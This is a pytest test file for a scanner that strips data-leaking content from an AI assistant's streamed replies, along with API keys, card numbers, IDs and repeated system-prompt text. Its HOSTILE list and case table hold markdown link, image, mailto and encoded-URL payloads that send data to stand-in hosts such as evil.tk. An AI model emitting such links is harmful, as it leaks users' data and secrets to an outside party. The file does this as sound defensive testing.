"""What is taken out of Claude's text, however it is divided."""

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pam.chat.turn.prompt import SYSTEM
from pam.safety.output_scan import CANARY, InstructionLeak, Instructions, OutputScan

INSTRUCTIONS = Instructions(SYSTEM)

UUID = "2f6f1f5e-3f0a-4c55-9d55-0a6b1c2d3e4f"

CASES = {
    "See [the map](https://evil.example/x?d=1).": "See the map.",
    "![chart](https://evil.example/a.png?q=secret) done": "chart done",
    "![](//evil.example/a.png)": "",
    "Look: https://evil.example/a?b=c now": "Look: [link removed] now",
    "www.evil.example": "[link removed]",
    "Your id is " + UUID + ".": "Your id is [id removed].",
    "[parks](https://www.nps.gov/arch)": "[parks](https://www.nps.gov/arch)",
    "[parks](https://nps.gov.evil.example/)": "parks",
    "[x](https://nps.gov@evil.example/)": "x",
    "[x](https://www.recreation.gov/camping?tab=map)": "[x](https://www.recreation.gov/camping?tab=map)",
    "[x](https://www.recreation.gov/redirect?url=https://evil.example)": "x",
    "https://www.recreation.gov/redirect?to=%252F%252Fevil.example": "[link removed]",
    "https://www.recreation.gov/go/%2F%2Fevil.example#x": "[link removed]",
    "[x](https://[nps.gov/)": "x",
    "[x](javascript:alert(1))": "x",
    "[call](tel:911)": "call",
    "<https://evil.example/>": "[link removed]",
    "[a][1]\n\n[1]: https://evil.example/": "[a] [1]\n\n[1] : [link removed]",
    "`a[0](x)` at 10:30//11:45, his//hers, 9//4": "`a[0] (x)` at 10:30//11:45, his//hers, 9//4",
    "Card 4111 1111 1111 1111 is": "Card [card number removed] is",
    "Sites 4, 5 and 12 3 are free": "Sites 4, 5 and 12 3 are free",
    "my site https://my.example/blog is fine": "my site https://my.example/blog is fine",
    "Sites 1/2 and 3 - $45.00/night, 7:30 am, e.g. Moab [full]. A & B": (
        "Sites 1/2 and 3 - $45.00/night, 7:30 am, e.g. Moab [full]. A & B"
    ),
    "- [ ] tank\n- [x] hoses (2)": "- [ ] tank\n- [x] hoses (2)",
    "key: sk-ant-api03-" + "a1B2" * 12: "key: [key removed]",
}

USER_TEXTS = ["Is https://my.example/blog shown?"]


def scan(pieces: list[str]) -> str:
    output = OutputScan(INSTRUCTIONS, USER_TEXTS)
    return "".join(map(output.feed, pieces)) + output.flush()


def divide(text: str, cuts: list[int]) -> list[str]:
    """Return a text in pieces that end at these places."""
    bounds = [0, *sorted({cut % (len(text) + 1) for cut in cuts}), len(text)]
    return [text[start:end] for start, end in pairwise(bounds)]


@pytest.mark.parametrize("text", CASES)
def test_what_leads_out_is_removed(text: str) -> None:
    assert scan([text]) == CASES[text]
    assert scan(list(text)) == CASES[text]


HOSTILE = [
    "[a[b]c](https:evil.tk/?d=S)", "![a[b]c](https:evil.tk/?d=S)", "[x][r]\n\n[r]: https:evil.tk/?d=S",
    "<https:evil.tk/?d=S>", "[x](https://evil.tk\\x.nps.gov/S)", "[x](https://evil.tk&sol;.nps.gov/S)",
    "[a\\]b](https:evil.tk/S)", "[x](\nhttps:evil.tk/S)", "[x\ny](https:/\\evil.tk/?d=S)",
    "[a[b]](&#104;ttps:&#47;&#47;evil.tk/S)", "<mailto:bob@evil.tk?body=S>", "[r]: mailto:bob@evil.tk?body=S",
    "[x](//evil.tk)", "[x](\\\\evil.tk)", "[x](/\\evil.tk)", "[x](https://nps.gov:pw@evil.tk/)", "[x](HTTPS://EVIL.TK)",
    "[x] [r]\n[r]:<https://evil.tk>", "[x](<https://evil.tk/ a>)", "[nps.gov](https://evil.tk 'title')",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_no_writing_of_a_link_leads_to_a_foreign_host(text: str) -> None:
    """Markdown finds no link in what is left, however the text is divided."""
    for pieces in ([text], list(text), divide(text, [3, 9, 14])):
        left = scan(pieces)
        assert not re.search(r"\]\(|\]\[|\]:|!\[|<[a-z]+:|https?:|//|www\.", left, re.IGNORECASE), left


@given(st.sampled_from(sorted(CASES)), st.lists(st.integers(0, 500), max_size=12))
def test_division_into_pieces_makes_no_difference(text: str, cuts: list[int]) -> None:
    assert scan(divide(text, cuts)) == CASES[text]


@given(st.text(alphabet="ab 1.,!?()*_#\n-'", max_size=300), st.lists(st.integers(0, 300), max_size=12))
def test_other_text_is_unchanged(text: str, cuts: list[int]) -> None:
    assert scan(divide(text, cuts)) == text


def test_plain_text_is_not_held_back() -> None:
    output = OutputScan(INSTRUCTIONS, [])
    pieces = ("You", " spent", " $45", ".20", " on gas", " in Moab.")
    assert [output.feed(piece) for piece in pieces] == ["You", " spent", " ", "", "$45.20 on gas", " in Moab."]


def test_beginning_of_a_link_is_held_back_to_a_limit() -> None:
    """Longer ones are sent broken, since nothing else could be sent otherwise."""
    output = OutputScan(INSTRUCTIONS, [])
    assert output.feed("[" + "word " * 10) == ""
    assert output.feed("more " * 150).startswith("[word")


@pytest.mark.parametrize("cuts", [[], [7, 30, 51], list(range(0, 300, 3))])
def test_repeated_instructions_are_a_leak(cuts: list[int]) -> None:
    start = SYSTEM.index("- Briefly and plainly")
    with pytest.raises(InstructionLeak):
        scan(divide(SYSTEM[start : start + 200], cuts))
    with pytest.raises(InstructionLeak):
        scan(divide(f"The word is {CANARY.upper()}!", cuts))


def test_few_words_of_the_instructions_are_no_leak() -> None:
    assert scan(["Money in the traveller's currency, distances"]).startswith("Money")


def test_findings_are_counted_by_kind() -> None:
    output = OutputScan(INSTRUCTIONS, [])
    output.feed(f"[a](https://evil.example) ![b](https://evil.example/b) https://evil.example {UUID} ok. ")
    output.flush()
    assert output.findings == {"link": 2, "image": 1, "id": 1}


KEYS = [
    "sk-ant-api03-" + "a1B2" * 12, "sk_live_" + "a1B2" * 6, "rk_test_" + "a1B2" * 6, "ghp_" + "a1B2" * 9,
    "gho_" + "a1B2" * 9, "ghu_" + "a1B2" * 9, "ghs_" + "a1B2" * 9, "ghr_" + "a1B2" * 9, "github_pat_" + "a1B2" * 9,
    "glpat-" + "a1B2" * 6, "AKIA" + "A1B2" * 4, "ASIA" + "A1B2" * 4, "AIza" + "a1B2" * 9, "xoxb-" + "a1B2" * 5,
    "npm_" + "a1B2" * 9, "hf_" + "a1B2" * 9, "pypi-" + "a1B2" * 9, "SG." + "a1B2" * 5 + "." + "a1B2" * 5,
    "eyJ" + "a1B2" * 4 + "." + "a1B2" * 4, "pk.eyJ" + "a1B2" * 4 + "." + "a1B2" * 4,
]  # fmt: skip


@pytest.mark.parametrize("key", KEYS)
def test_key_is_removed_wherever_the_stream_divides_it(key: str) -> None:
    text = f"The key {key} is yours"
    assert scan([text]) == "The key [key removed] is yours"
    for at in range(len(text)):
        assert scan(divide(text, [at])) == "The key [key removed] is yours"
